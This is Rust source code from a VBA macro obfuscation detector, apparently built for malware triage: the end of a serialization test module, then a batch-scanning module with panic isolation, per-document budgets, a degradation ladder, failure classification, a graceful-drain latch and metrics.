        assert_eq!(decoded.fuel_per_doc, policy.fuel_per_doc);
        assert_eq!(decoded.ladder, policy.ladder);
        assert_eq!(decoded.max_scan_mem, policy.max_scan_mem);
        // The detector survives the trip: same verdict on a probe string.
        let probe = "Sub A()\r\n    x = Chr(1) & Chr(2) & Chr(3)\r\nEnd Sub\r\n";
        assert_eq!(loaded.is_obfuscated(probe), detector.is_obfuscated(probe));
    }

    #[test]
    fn result_frame_round_trips_outcome_and_deltas() {
        let sink = MetricsSink::enabled();
        sink.count(Counter::ScanDocs, 3);
        sink.count(Counter::OleParses, 2);
        let snap = sink.snapshot().unwrap();
        let outcome = ScanOutcome::Failed {
            class: FailureClass::Timeout,
            detail: "deadline exceeded".to_string(),
        };
        let frame = result_frame(&outcome, &snap);
        let (decoded, deltas) = decode_result(&parse_json(&frame).unwrap()).unwrap();
        assert_eq!(decoded, outcome);
        let mut deltas = deltas;
        deltas.sort_by_key(|(c, _)| c.label());
        assert!(deltas.contains(&(Counter::ScanDocs, 3)));
        assert!(deltas.contains(&(Counter::OleParses, 2)));
        assert_eq!(deltas.len(), 2);
    }
}
