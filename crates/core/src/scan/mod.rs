//! Never-abort, deadline-bounded batch scanning.
//!
//! A malware triage run processes thousands of files, many of them
//! deliberately malformed; one hostile document must never take down the
//! batch — and must never stall it either. [`scan_paths`] (and the
//! in-memory [`scan_documents`]) process every input, isolate per-document
//! panics with [`std::panic::catch_unwind`], classify each failure into a
//! [`FailureClass`], and aggregate everything into a [`ScanReport`].
//!
//! The policy-taking variants ([`scan_bytes_with_policy`] and friends) add
//! two robustness layers on top:
//!
//! - **Budgets.** [`ScanPolicy`] carries an optional per-document
//!   wall-clock deadline and fuel allowance, threaded as a cooperative
//!   [`Budget`] through every container parser. A
//!   pathological-but-limit-respecting input trips the budget and is
//!   reported as [`FailureClass::Timeout`] instead of hanging the batch.
//! - **The degradation ladder.** With [`ScanPolicy::ladder`] enabled, a
//!   failed document is retried down a fixed ladder — full parse, then a
//!   re-parse under [`ScanLimits::strict`], then a salvage-only sweep of
//!   the raw bytes — and a success below the top rung is reported as
//!   [`ScanOutcome::Recovered`] with the rung that produced it. All rungs
//!   share the *same* per-document budget, so the ladder cannot multiply a
//!   document's time allowance.
//!
//! Scanning is embarrassingly parallel at the document level, and
//! [`ScanPolicy::jobs`] exploits that: with `jobs > 1`, [`scan_paths_with_policy`]
//! (and [`scan_paths_journaled`], and the explicit [`scan_paths_parallel`])
//! fan the batch out to a hand-rolled worker pool — an atomic cursor
//! claims chunks of the input list, each worker scans its documents under
//! its own per-document budgets and panic containment, and a single
//! collector thread reassembles results **in input order** and owns the
//! one journal writer. The parallel engine is proven byte-equivalent to
//! the sequential one by `tests/parallel_scan.rs`.
//!
//! Above the thread pool sits the [`isolate`] supervisor
//! ([`ScanPolicy::isolate`]): the batch is sharded across child *worker
//! processes* so the failure modes `catch_unwind` cannot contain — aborts,
//! stack overflows, the OOM killer — cost one worker, not the batch. A
//! document that kills its worker is retried exactly once in a fresh solo
//! worker and, if it kills that too, is recorded as
//! [`FailureClass::Fatal`] (quarantined) while the batch continues.
//!
//! Finally, [`interrupt`] provides a graceful-drain latch: when a policy
//! opts in via [`ScanPolicy::drain_on_interrupt`], a drain request (e.g.
//! from a SIGINT handler) stops the engines from dispatching new
//! documents; everything already decided is journaled and reported with
//! [`ScanReport::interrupted`] set, so a later `--resume` picks up
//! exactly where the drain stopped.

use std::any::Any;
use std::collections::BTreeMap;
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{mpsc, Arc};
use std::thread;
use std::time::Duration;

use crate::detector::{Detector, ModuleVerdict, ScoreScratch};
use crate::extract::{extract_macros_bounded, ExtractionStatus};
use crate::journal::{JournalReplay, ScanJournal};
use crate::limits::ScanLimits;
use crate::DetectError;
use vbadet_faultpoint::{faultpoint, Budget, BudgetExceeded};
use vbadet_metrics::{Counter, MetricsSink, ScanMetrics, Stage};
use vbadet_ovba::salvage_modules_from_bytes_budgeted;

pub mod cache;
pub mod isolate;

pub use cache::ScanCache;
pub use isolate::IsolateConfig;

thread_local! {
    /// One [`ScoreScratch`] per scanning thread: the sequential caller,
    /// each pool worker, each isolate worker process, and each service
    /// worker keep their extraction buffers warm across documents, so
    /// steady-state scoring performs no heap allocation. Thread-local
    /// (rather than threaded through the call stack) keeps the buffers
    /// outside the `catch_unwind` containment boundaries; every use
    /// clears them on entry, so a panicked document cannot poison the
    /// next one.
    static SCORE_SCRATCH: std::cell::RefCell<ScoreScratch> =
        std::cell::RefCell::new(ScoreScratch::default());
}

/// Scores one module through the per-thread scratch, timing the two hot
/// stages separately. Verdicts are bit-identical to `detector.score`.
fn score_module(detector: &Detector, metrics: &MetricsSink, code: &str) -> crate::Verdict {
    SCORE_SCRATCH.with(|cell| {
        let scratch = &mut *cell.borrow_mut();
        {
            let _t = metrics.time(Stage::FeaturesNs);
            detector.extract_with(scratch, code);
        }
        let _t = metrics.time(Stage::PredictNs);
        detector.predict_with(scratch)
    })
}

/// Records this document's heap-allocation footprint on drop: the delta
/// of [`memguard::cumulative_allocs`](crate::memguard::cumulative_allocs)
/// across the scan becomes the `alloc.count_per_doc` /
/// `alloc.bytes_per_doc` histograms. In a process without the tracking
/// allocator the counters never move and nothing is recorded.
struct AllocGuard<'a> {
    metrics: &'a MetricsSink,
    start: (u64, u64),
}

impl<'a> AllocGuard<'a> {
    fn new(metrics: &'a MetricsSink) -> Self {
        AllocGuard {
            metrics,
            start: crate::memguard::cumulative_allocs(),
        }
    }
}

impl Drop for AllocGuard<'_> {
    fn drop(&mut self) {
        let (count, bytes) = crate::memguard::cumulative_allocs();
        let dc = count.saturating_sub(self.start.0);
        if dc > 0 {
            self.metrics.record(Stage::AllocCountPerDoc, dc);
            self.metrics
                .record(Stage::AllocBytesPerDoc, bytes.saturating_sub(self.start.1));
        }
    }
}

/// Graceful-drain latch for batch scans.
///
/// A process-global flag, set from a signal handler (it is a single atomic
/// store, so it is async-signal-safe) or from tests, and consulted by the
/// batch engines *only* when the active [`ScanPolicy`] opts in via
/// [`ScanPolicy::drain_on_interrupt`] — a library embedder's batches are
/// never affected by a flag they did not ask to honor.
pub mod interrupt {
    use std::sync::atomic::{AtomicBool, Ordering};

    static DRAIN: AtomicBool = AtomicBool::new(false);

    /// Requests a graceful drain: engines stop dispatching new documents.
    /// Safe to call from a signal handler.
    pub fn request_drain() {
        DRAIN.store(true, Ordering::Relaxed);
    }

    /// Whether a drain has been requested.
    pub fn drain_requested() -> bool {
        DRAIN.load(Ordering::Relaxed)
    }

    /// Clears the latch (call before starting a batch that honors it).
    pub fn reset() {
        DRAIN.store(false, Ordering::Relaxed);
    }

    /// Test hook: lets the fault-injection site `scan::request-drain`
    /// trigger a drain at a deterministic document index.
    pub(crate) fn poll_injected() {
        if vbadet_faultpoint::fire("scan::request-drain").is_some() {
            request_drain();
        }
    }
}

/// Why a document could not be scanned, at the granularity the batch
/// report cares about.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum FailureClass {
    /// A sector or DIFAT chain in the compound file loops.
    CyclicChain,
    /// A configured [`ScanLimits`] cap was hit (decompression bomb,
    /// oversized directory, a file too large to read…).
    LimitExceeded,
    /// The file ends before a referenced structure.
    Truncated,
    /// A structure is malformed in some other way and salvage recovered
    /// nothing.
    Malformed,
    /// The bytes are neither an OLE compound file nor a ZIP archive.
    UnknownContainer,
    /// An OOXML archive with no `vbaProject.bin` part.
    NoVbaPart,
    /// The file could not be read from disk.
    Io,
    /// The scanner itself panicked on this input (a bug — the panic is
    /// contained and reported rather than aborting the batch).
    Panic,
    /// The per-document scan [`Budget`] (wall-clock deadline or fuel
    /// allowance) was exhausted mid-parse.
    Timeout,
    /// The worker *process* scanning this document died (abort, fatal
    /// signal, OOM kill) or missed its heartbeat deadline — failure modes
    /// `catch_unwind` cannot contain. Only produced by the [`isolate`]
    /// supervisor; a quarantined document is one that killed both its
    /// original worker and its fresh solo-retry worker.
    Fatal,
}

impl FailureClass {
    /// Maps a detection error onto its batch-report class.
    pub fn from_error(e: &DetectError) -> Self {
        use vbadet_ole::OleError;
        use vbadet_ovba::OvbaError;
        use vbadet_zip::ZipError;
        match e {
            DetectError::UnknownContainer => FailureClass::UnknownContainer,
            DetectError::NoVbaPart => FailureClass::NoVbaPart,
            // A tripped memory ceiling travels in the same typed wrapper as
            // the other budget breaches, but it is a resource cap, not a
            // stall: report it with the other limit breaches.
            DetectError::Zip(ZipError::DeadlineExceeded(why))
            | DetectError::Ole(OleError::DeadlineExceeded(why))
            | DetectError::Ovba(OvbaError::DeadlineExceeded(why))
            | DetectError::Ovba(OvbaError::Ole(OleError::DeadlineExceeded(why))) => match why {
                BudgetExceeded::Memory => FailureClass::LimitExceeded,
                _ => FailureClass::Timeout,
            },
            DetectError::Zip(ZipError::LimitExceeded { .. })
            | DetectError::Ole(OleError::LimitExceeded { .. })
            | DetectError::Ovba(OvbaError::LimitExceeded { .. })
            | DetectError::Ovba(OvbaError::Ole(OleError::LimitExceeded { .. })) => {
                FailureClass::LimitExceeded
            }
            DetectError::Ole(OleError::ChainCycle { .. })
            | DetectError::Ovba(OvbaError::Ole(OleError::ChainCycle { .. })) => {
                FailureClass::CyclicChain
            }
            DetectError::Zip(ZipError::Truncated { .. })
            | DetectError::Ole(OleError::Truncated { .. })
            | DetectError::Ovba(OvbaError::TruncatedContainer)
            | DetectError::Ovba(OvbaError::Ole(OleError::Truncated { .. })) => {
                FailureClass::Truncated
            }
            _ => FailureClass::Malformed,
        }
    }

    /// Stable lowercase label used in reports, journals and CLI output.
    pub fn label(self) -> &'static str {
        match self {
            FailureClass::CyclicChain => "cyclic-chain",
            FailureClass::LimitExceeded => "limit-exceeded",
            FailureClass::Truncated => "truncated",
            FailureClass::Malformed => "malformed",
            FailureClass::UnknownContainer => "unknown-container",
            FailureClass::NoVbaPart => "no-vba-part",
            FailureClass::Io => "io-error",
            FailureClass::Panic => "panic",
            FailureClass::Timeout => "timeout",
            FailureClass::Fatal => "fatal",
        }
    }

    /// The per-class failure counter this class increments in a
    /// [`ScanMetrics`] snapshot.
    pub fn counter(self) -> Counter {
        match self {
            FailureClass::CyclicChain => Counter::ScanFailedCyclicChain,
            FailureClass::LimitExceeded => Counter::ScanFailedLimitExceeded,
            FailureClass::Truncated => Counter::ScanFailedTruncated,
            FailureClass::Malformed => Counter::ScanFailedMalformed,
            FailureClass::UnknownContainer => Counter::ScanFailedUnknownContainer,
            FailureClass::NoVbaPart => Counter::ScanFailedNoVbaPart,
            FailureClass::Io => Counter::ScanFailedIo,
            FailureClass::Panic => Counter::ScanFailedPanic,
            FailureClass::Timeout => Counter::ScanFailedTimeout,
            FailureClass::Fatal => Counter::ScanFailedFatal,
        }
    }

    /// Inverse of [`label`](Self::label), used when replaying a journal.
    pub fn from_label(label: &str) -> Option<Self> {
        Some(match label {
            "cyclic-chain" => FailureClass::CyclicChain,
            "limit-exceeded" => FailureClass::LimitExceeded,
            "truncated" => FailureClass::Truncated,
            "malformed" => FailureClass::Malformed,
            "unknown-container" => FailureClass::UnknownContainer,
            "no-vba-part" => FailureClass::NoVbaPart,
            "io-error" => FailureClass::Io,
            "panic" => FailureClass::Panic,
            "timeout" => FailureClass::Timeout,
            "fatal" => FailureClass::Fatal,
            _ => return None,
        })
    }
}

/// A rung of the degradation ladder.
///
/// The ladder only descends: a document that fails on one rung is retried
/// on the next, and [`ScanOutcome::Recovered`] records the rung that
/// finally produced a result. [`Full`](Self::Full) never appears in a
/// `Recovered` outcome — a first-rung success is reported as the plain
/// outcome it is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum LadderRung {
    /// Full parse under the policy's configured limits.
    Full,
    /// Re-parse under [`ScanLimits::strict`].
    Strict,
    /// Salvage-only sweep of the raw document bytes.
    Salvage,
}

impl LadderRung {
    /// Stable lowercase label used in reports and journals.
    pub fn label(self) -> &'static str {
        match self {
            LadderRung::Full => "full",
            LadderRung::Strict => "strict",
            LadderRung::Salvage => "salvage",
        }
    }

    /// Inverse of [`label`](Self::label), used when replaying a journal.
    pub fn from_label(label: &str) -> Option<Self> {
        Some(match label {
            "full" => LadderRung::Full,
            "strict" => LadderRung::Strict,
            "salvage" => LadderRung::Salvage,
            _ => return None,
        })
    }
}

/// Outcome of scanning one document.
#[derive(Debug, Clone, PartialEq)]
pub enum ScanOutcome {
    /// Parsed cleanly; no macros present.
    Clean,
    /// Parsed cleanly; per-module verdicts attached.
    Macros(Vec<ModuleVerdict>),
    /// Project structures were damaged but modules were recovered by the
    /// salvage scanner; verdicts attached.
    Salvaged(Vec<ModuleVerdict>),
    /// The full parse failed but a lower rung of the degradation ladder
    /// produced a result (possibly an empty one).
    Recovered {
        /// The rung that succeeded — never [`LadderRung::Full`].
        rung: LadderRung,
        /// Per-module verdicts from the successful rung.
        verdicts: Vec<ModuleVerdict>,
    },
    /// The document could not be scanned.
    Failed {
        /// Broad class of the failure, for aggregation.
        class: FailureClass,
        /// Human-readable detail (the underlying error or panic message).
        detail: String,
    },
}

impl ScanOutcome {
    /// Whether any attached verdict flags obfuscation.
    pub fn flagged(&self) -> bool {
        match self {
            ScanOutcome::Macros(v)
            | ScanOutcome::Salvaged(v)
            | ScanOutcome::Recovered { verdicts: v, .. } => v.iter().any(|m| m.verdict.obfuscated),
            _ => false,
        }
    }
}

/// One scanned document inside a [`ScanReport`].
#[derive(Debug, Clone, PartialEq)]
pub struct ScanRecord {
    /// Input path (or a synthetic label for in-memory scans).
    pub path: PathBuf,
    /// What happened.
    pub outcome: ScanOutcome,
}

/// Aggregate result of a batch scan. Every input appears exactly once in
/// [`records`](Self::records), whatever happened to it.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct ScanReport {
    /// Per-document outcomes, in input order.
    pub records: Vec<ScanRecord>,
    /// Set when checkpointing to a journal failed mid-batch. The scan
    /// itself runs to completion regardless — a full-disk journal must not
    /// take down the batch — but the journal is then unusable for resume.
    pub journal_error: Option<String>,
    /// Pipeline observability snapshot, present when the policy carried an
    /// enabled [`MetricsSink`]. The `counters` section is deterministic:
    /// identical for sequential and parallel runs over the same inputs.
    pub metrics: Option<ScanMetrics>,
    /// Set when the batch stopped early on a graceful drain request
    /// ([`interrupt`]): [`records`](Self::records) then holds a contiguous
    /// prefix of the inputs, every one of them journaled, and the
    /// remainder was never dispatched.
    pub interrupted: bool,
}

impl ScanReport {
    /// Total number of inputs processed.
    pub fn scanned(&self) -> usize {
        self.records.len()
    }

    /// Documents that parsed with no macros.
    pub fn clean(&self) -> usize {
        self.records
            .iter()
            .filter(|r| matches!(r.outcome, ScanOutcome::Clean))
            .count()
    }

    /// Documents with at least one module flagged as obfuscated.
    pub fn flagged(&self) -> usize {
        self.records.iter().filter(|r| r.outcome.flagged()).count()
    }

    /// Documents whose macros came from the salvage scanner.
    pub fn salvaged(&self) -> usize {
        self.records
            .iter()
            .filter(|r| matches!(r.outcome, ScanOutcome::Salvaged(_)))
            .count()
    }

    /// Documents recovered by a lower rung of the degradation ladder.
    pub fn recovered(&self) -> usize {
        self.records
            .iter()
            .filter(|r| matches!(r.outcome, ScanOutcome::Recovered { .. }))
            .count()
    }

    /// Documents that could not be scanned at all.
    pub fn failed(&self) -> usize {
        self.records
            .iter()
            .filter(|r| matches!(r.outcome, ScanOutcome::Failed { .. }))
            .count()
    }

    /// Failure count for one class.
    pub fn failed_with(&self, class: FailureClass) -> usize {
        self.records
            .iter()
            .filter(|r| matches!(&r.outcome, ScanOutcome::Failed { class: c, .. } if *c == class))
            .count()
    }
}

/// How a batch scan spends its patience: per-document resource limits,
/// optional per-document budgets, and whether the degradation ladder runs.
#[derive(Debug, Clone, Default)]
pub struct ScanPolicy {
    /// Per-layer resource caps (see [`ScanLimits`]).
    pub limits: ScanLimits,
    /// Wall-clock allowance per document. `None` means no deadline.
    pub deadline_per_doc: Option<Duration>,
    /// Fuel allowance per document (≈ 1 unit per KiB of parsing work).
    /// `None` means unlimited. Fuel gives deterministic budget trips for
    /// tests; deadlines are the production knob.
    pub fuel_per_doc: Option<u64>,
    /// Whether failed documents descend the degradation ladder
    /// (full → strict → salvage) before being reported as failed.
    pub ladder: bool,
    /// Worker threads for path batches. `0` and `1` both select the
    /// sequential in-thread engine; `n > 1` fans documents out to `n`
    /// workers. Reports, journals and per-document outcomes are identical
    /// either way — parallelism is an implementation detail the output
    /// must never betray.
    pub jobs: usize,
    /// Observability handle. Disabled (and free) by default; when enabled,
    /// every layer records counters and stage timings into it, and the
    /// batch engines attach its snapshot to [`ScanReport::metrics`].
    pub metrics: MetricsSink,
    /// Per-document memory ceiling in bytes, enforced through the scan
    /// [`Budget`] against the process-wide live-allocation probe
    /// ([`crate::memguard::live_bytes`]). A breach surfaces as a typed
    /// [`FailureClass::LimitExceeded`] instead of an OOM kill. Only
    /// meaningful in a process with the tracking allocator installed
    /// (isolate workers install it; without it the probe reads zero and
    /// the ceiling never trips).
    pub max_scan_mem: Option<u64>,
    /// Whether this batch honors the process-global [`interrupt`] drain
    /// latch. Off by default so library embedders are never surprised by
    /// a flag they did not set.
    pub drain_on_interrupt: bool,
    /// When set, path batches run under the [`isolate`] supervisor:
    /// documents are scanned in child worker processes so aborts, stack
    /// overflows and OOM kills cost one worker, not the batch.
    pub isolate: Option<IsolateConfig>,
    /// Content-addressed result cache, consulted by every engine. `None`
    /// (the default) scans everything. Like `jobs` and `isolate`, the
    /// cache is an execution-shape knob: records and deterministic
    /// counters are identical with it off, cold or warm (`tests/cache.rs`
    /// proves it), so it does not participate in the policy fingerprint.
    pub cache: Option<Arc<ScanCache>>,
}

impl ScanPolicy {
    /// A policy with the given limits and everything else at defaults.
    pub fn with_limits(limits: ScanLimits) -> Self {
        ScanPolicy {
            limits,
            ..ScanPolicy::default()
        }
    }

    /// Sets a per-document wall-clock deadline in milliseconds.
    pub fn deadline_ms(mut self, ms: u64) -> Self {
        self.deadline_per_doc = Some(Duration::from_millis(ms));
        self
    }

    /// Sets a per-document fuel allowance.
    pub fn fuel(mut self, units: u64) -> Self {
        self.fuel_per_doc = Some(units);
        self
    }

    /// Enables the degradation ladder.
    pub fn with_ladder(mut self) -> Self {
        self.ladder = true;
        self
    }

    /// Sets the number of scanning worker threads (see [`ScanPolicy::jobs`]).
    pub fn jobs(mut self, n: usize) -> Self {
        self.jobs = n;
        self
    }

    /// Attaches a metrics sink; pass [`MetricsSink::enabled`] to collect a
    /// [`ScanMetrics`] snapshot on the report.
    pub fn with_metrics(mut self, metrics: MetricsSink) -> Self {
        self.metrics = metrics;
        self
    }

    /// Sets a per-document memory ceiling in bytes (see
    /// [`ScanPolicy::max_scan_mem`]).
    pub fn max_scan_mem_bytes(mut self, bytes: u64) -> Self {
        self.max_scan_mem = Some(bytes);
        self
    }

    /// Opts this batch into the graceful-drain latch (see [`interrupt`]).
    pub fn drain_on_interrupt(mut self) -> Self {
        self.drain_on_interrupt = true;
        self
    }

    /// Runs path batches under the process-isolation supervisor.
    pub fn isolated(mut self, config: IsolateConfig) -> Self {
        self.isolate = Some(config);
        self
    }

    /// Attaches a content-addressed result cache (see [`ScanCache`]).
    pub fn with_cache(mut self, cache: Arc<ScanCache>) -> Self {
        self.cache = Some(cache);
        self
    }

    /// Mints the per-document budget this policy prescribes, carrying the
    /// policy's metrics handle into every layer the budget traverses. The
    /// memory ceiling's baseline is whatever is live *now*, so only the
    /// document's own allocations count against it.
    fn budget(&self) -> Budget {
        Budget::new_guarded(
            self.deadline_per_doc,
            self.fuel_per_doc,
            self.max_scan_mem
                .map(|cap| (crate::memguard::live_bytes as fn() -> u64, cap)),
            self.metrics.clone(),
        )
    }

    /// Whether this batch should stop dispatching new documents now.
    fn drain_now(&self) -> bool {
        interrupt::poll_injected();
        self.drain_on_interrupt && interrupt::drain_requested()
    }
}

/// RAII suppression of the default panic hook's stderr output.
///
/// Panic containment via `catch_unwind` keeps the batch alive, but the
/// default hook still spews a message and backtrace to stderr for every
/// contained panic — unacceptable noise when a hostile corpus triggers
/// thousands. The guard flips a thread-local flag consulted by a
/// pass-through filter hook installed once per process; panics on other
/// threads (and on this thread outside the guard's lifetime) reach the
/// previous hook untouched, so nesting and concurrent batches are safe.
mod quiet {
    use std::cell::Cell;
    use std::panic;
    use std::sync::Once;

    thread_local! {
        static SUPPRESS: Cell<bool> = const { Cell::new(false) };
    }

    static INSTALL: Once = Once::new();

    fn install_filter() {
        INSTALL.call_once(|| {
            let previous = panic::take_hook();
            panic::set_hook(Box::new(move |info| {
                if !SUPPRESS.with(Cell::get) {
                    previous(info);
                }
            }));
        });
    }

    pub(crate) struct QuietPanicGuard {
        prior: bool,
    }

    impl QuietPanicGuard {
        pub(crate) fn new() -> Self {
            install_filter();
            QuietPanicGuard {
                prior: SUPPRESS.with(|s| s.replace(true)),
            }
        }
    }

    impl Drop for QuietPanicGuard {
        fn drop(&mut self) {
            let prior = self.prior;
            SUPPRESS.with(|s| s.set(prior));
        }
    }
}

fn panic_detail(payload: Box<dyn Any + Send>) -> String {
    payload
        .downcast_ref::<&str>()
        .map(|s| s.to_string())
        .or_else(|| payload.downcast_ref::<String>().cloned())
        .unwrap_or_else(|| "opaque panic payload".to_string())
}

/// Rolls one decided record into the deterministic outcome counters.
/// Every batch engine calls this exactly once per record — the sequential
/// loop directly, the parallel engine from its single collector — so the
/// sums can never depend on worker scheduling. The resident service
/// ([`crate::serve`]) calls it once per decided request.
pub(crate) fn record_outcome(metrics: &MetricsSink, outcome: &ScanOutcome) {
    if let ScanOutcome::Failed {
        class: FailureClass::Fatal,
        ..
    } = outcome
    {
        // A fatal record means a worker process died mid-scan, taking an
        // unknowable amount of partially-recorded pipeline work with it.
        // Quarantined documents are therefore excluded from the
        // deterministic counters entirely (their count lives in the
        // isolate.quarantines histogram), which is what keeps the counters
        // section byte-identical to a clean run on the surviving inputs.
        return;
    }
    metrics.count(Counter::ScanDocs, 1);
    let verdicts = match outcome {
        ScanOutcome::Clean => {
            metrics.count(Counter::ScanClean, 1);
            return;
        }
        ScanOutcome::Macros(v) => {
            metrics.count(Counter::ScanMacros, 1);
            v
        }
        ScanOutcome::Salvaged(v) => {
            metrics.count(Counter::ScanSalvaged, 1);
            v
        }
        ScanOutcome::Recovered { verdicts, .. } => {
            metrics.count(Counter::ScanRecovered, 1);
            verdicts
        }
        ScanOutcome::Failed { class, .. } => {
            metrics.count(Counter::ScanFailed, 1);
            metrics.count(class.counter(), 1);
            return;
        }
    };
    metrics.count(Counter::ScanModulesScored, verdicts.len() as u64);
    let flagged = verdicts.iter().filter(|m| m.verdict.obfuscated).count();
    metrics.count(Counter::ScanModulesFlagged, flagged as u64);
}

/// Scans one in-memory document, containing any panic from the parsing or
/// scoring stack.
///
/// This is the batch engine's unit of work: it never returns `Err` and
/// never unwinds — every abnormal path becomes [`ScanOutcome::Failed`].
pub fn scan_bytes(detector: &Detector, bytes: &[u8], limits: &ScanLimits) -> ScanOutcome {
    scan_bytes_with_policy(detector, bytes, &ScanPolicy::with_limits(*limits))
}

/// Like [`scan_bytes`] but under a full [`ScanPolicy`]: budgets are
/// enforced and, when enabled, the degradation ladder runs.
pub fn scan_bytes_with_policy(
    detector: &Detector,
    bytes: &[u8],
    policy: &ScanPolicy,
) -> ScanOutcome {
    let _quiet = quiet::QuietPanicGuard::new();
    let _doc_timer = policy.metrics.time(Stage::DocNs);
    let _alloc_guard = AllocGuard::new(&policy.metrics);
    let budget = policy.budget();
    policy.metrics.count(Counter::LadderFullAttempts, 1);
    let (class, detail) = match run_rung(detector, bytes, &policy.limits, &budget, true) {
        ScanOutcome::Failed { class, detail } => (class, detail),
        done => return done,
    };
    // Definitive verdicts the ladder cannot improve: the container type is
    // simply not ours, or the budget is spent (it is shared across rungs,
    // so retrying would fail instantly anyway).
    let definitive = matches!(
        class,
        FailureClass::UnknownContainer | FailureClass::NoVbaPart | FailureClass::Timeout
    );
    if !policy.ladder || definitive || budget.tripped().is_some() {
        return ScanOutcome::Failed { class, detail };
    }
    policy.metrics.count(Counter::LadderStrictAttempts, 1);
    match run_rung(detector, bytes, &ScanLimits::strict(), &budget, false) {
        ScanOutcome::Clean => {
            policy.metrics.count(Counter::LadderRecovered, 1);
            return ScanOutcome::Recovered {
                rung: LadderRung::Strict,
                verdicts: Vec::new(),
            };
        }
        ScanOutcome::Macros(v)
        | ScanOutcome::Salvaged(v)
        | ScanOutcome::Recovered { verdicts: v, .. } => {
            policy.metrics.count(Counter::LadderRecovered, 1);
            return ScanOutcome::Recovered {
                rung: LadderRung::Strict,
                verdicts: v,
            };
        }
        ScanOutcome::Failed {
            class: FailureClass::Timeout,
            detail,
        } => {
            return ScanOutcome::Failed {
                class: FailureClass::Timeout,
                detail,
            }
        }
        ScanOutcome::Failed { .. } => {}
    }
    // Last rung: sweep the raw bytes for intact compressed containers,
    // ignoring every container structure.
    policy.metrics.count(Counter::LadderSalvageAttempts, 1);
    let _rung_timer = policy.metrics.time(Stage::ExtractSalvageNs);
    let salvage = catch_unwind(AssertUnwindSafe(|| {
        let _t = policy.metrics.time(Stage::OvbaSalvageNs);
        salvage_modules_from_bytes_budgeted(bytes, "", &policy.limits.ovba, &budget)
    }));
    match salvage {
        Ok(Ok(modules)) if !modules.is_empty() => {
            let verdicts = modules
                .iter()
                .map(|m| ModuleVerdict {
                    module_name: m.name.clone(),
                    verdict: score_module(detector, &policy.metrics, &m.code),
                })
                .collect();
            policy.metrics.count(Counter::LadderRecovered, 1);
            ScanOutcome::Recovered {
                rung: LadderRung::Salvage,
                verdicts,
            }
        }
        Ok(Err(e)) => {
            let e = DetectError::Ovba(e);
            ScanOutcome::Failed {
                class: FailureClass::from_error(&e),
                detail: e.to_string(),
            }
        }
        // Nothing salvaged (or the sweep itself panicked): report the
        // original, most informative failure.
        _ => ScanOutcome::Failed { class, detail },
    }
}

/// Runs one ladder rung under `catch_unwind`. The first rung hosts the
/// `scan::full-parse` fault-injection site so the ladder's recovery path
/// can be exercised deterministically.
fn run_rung(
    detector: &Detector,
    bytes: &[u8],
    limits: &ScanLimits,
    budget: &Budget,
    first: bool,
) -> ScanOutcome {
    let _rung_timer = budget.metrics().time(if first {
        Stage::ExtractFullNs
    } else {
        Stage::ExtractStrictNs
    });
    let result = catch_unwind(AssertUnwindSafe(|| {
        if first {
            faultpoint!("scan::full-parse");
        }
        scan_bytes_bounded(detector, bytes, limits, budget)
    }));
    match result {
        Ok(outcome) => outcome,
        Err(payload) => ScanOutcome::Failed {
            class: FailureClass::Panic,
            detail: panic_detail(payload),
        },
    }
}

fn scan_bytes_bounded(
    detector: &Detector,
    bytes: &[u8],
    limits: &ScanLimits,
    budget: &Budget,
) -> ScanOutcome {
    match extract_macros_bounded(bytes, limits, budget) {
        Ok(extraction) => {
            if extraction.macros.is_empty() {
                return ScanOutcome::Clean;
            }
            let verdicts = extraction
                .macros
                .iter()
                .map(|m| ModuleVerdict {
                    module_name: m.module_name.clone(),
                    verdict: score_module(detector, budget.metrics(), &m.code),
                })
                .collect();
            match extraction.status {
                ExtractionStatus::Parsed => ScanOutcome::Macros(verdicts),
                ExtractionStatus::Salvaged => ScanOutcome::Salvaged(verdicts),
            }
        }
        Err(e) => ScanOutcome::Failed {
            class: FailureClass::from_error(&e),
            detail: e.to_string(),
        },
    }
}

/// Scans a batch of labelled in-memory documents. Used by tests and the
/// fuzz harness; [`scan_paths`] is the filesystem-facing equivalent.
pub fn scan_documents<'a, I>(detector: &Detector, docs: I, limits: &ScanLimits) -> ScanReport
where
    I: IntoIterator<Item = (&'a str, &'a [u8])>,
{
    scan_documents_with_policy(detector, docs, &ScanPolicy::with_limits(*limits))
}

/// Like [`scan_documents`] but under a full [`ScanPolicy`]. Each document
/// gets its own fresh budget, so a batch of `n` documents under a
/// per-document deadline `d` completes in at most `n·d` plus per-document
/// bookkeeping.
pub fn scan_documents_with_policy<'a, I>(
    detector: &Detector,
    docs: I,
    policy: &ScanPolicy,
) -> ScanReport
where
    I: IntoIterator<Item = (&'a str, &'a [u8])>,
{
    let _quiet = quiet::QuietPanicGuard::new();
    let mut records = Vec::new();
    let mut interrupted = false;
    for (label, bytes) in docs {
        if policy.drain_now() {
            interrupted = true;
            break;
        }
        faultpoint!("scan::between-docs");
        let outcome = scan_bytes_with_policy(detector, bytes, policy);
        record_outcome(&policy.metrics, &outcome);
        records.push(ScanRecord {
            path: PathBuf::from(label),
            outcome,
        });
    }
    ScanReport {
        records,
        journal_error: None,
        metrics: policy.metrics.snapshot(),
        interrupted,
    }
}

/// Scans every path in order, never aborting: unreadable files become
/// [`FailureClass::Io`] records, oversized files are rejected by `stat`
/// before a byte is read, parser panics become [`FailureClass::Panic`]
/// records, and the batch always runs to the end.
pub fn scan_paths<P: AsRef<Path>>(
    detector: &Detector,
    paths: &[P],
    limits: &ScanLimits,
) -> ScanReport {
    scan_paths_with_policy(detector, paths, &ScanPolicy::with_limits(*limits))
}

/// Like [`scan_paths`] but under a full [`ScanPolicy`].
pub fn scan_paths_with_policy<P: AsRef<Path>>(
    detector: &Detector,
    paths: &[P],
    policy: &ScanPolicy,
) -> ScanReport {
    scan_paths_journaled(detector, paths, policy, None, None)
}

/// Like [`scan_paths_with_policy`] but explicitly parallel: the batch fans
/// out to `jobs` worker threads (overriding [`ScanPolicy::jobs`]). The
/// report — per-file outcomes, ordering, counters — is identical to the
/// sequential engine's; only the wall clock changes.
pub fn scan_paths_parallel<P: AsRef<Path>>(
    detector: &Detector,
    paths: &[P],
    policy: &ScanPolicy,
    jobs: usize,
) -> ScanReport {
    let policy = ScanPolicy {
        jobs,
        ..policy.clone()
    };
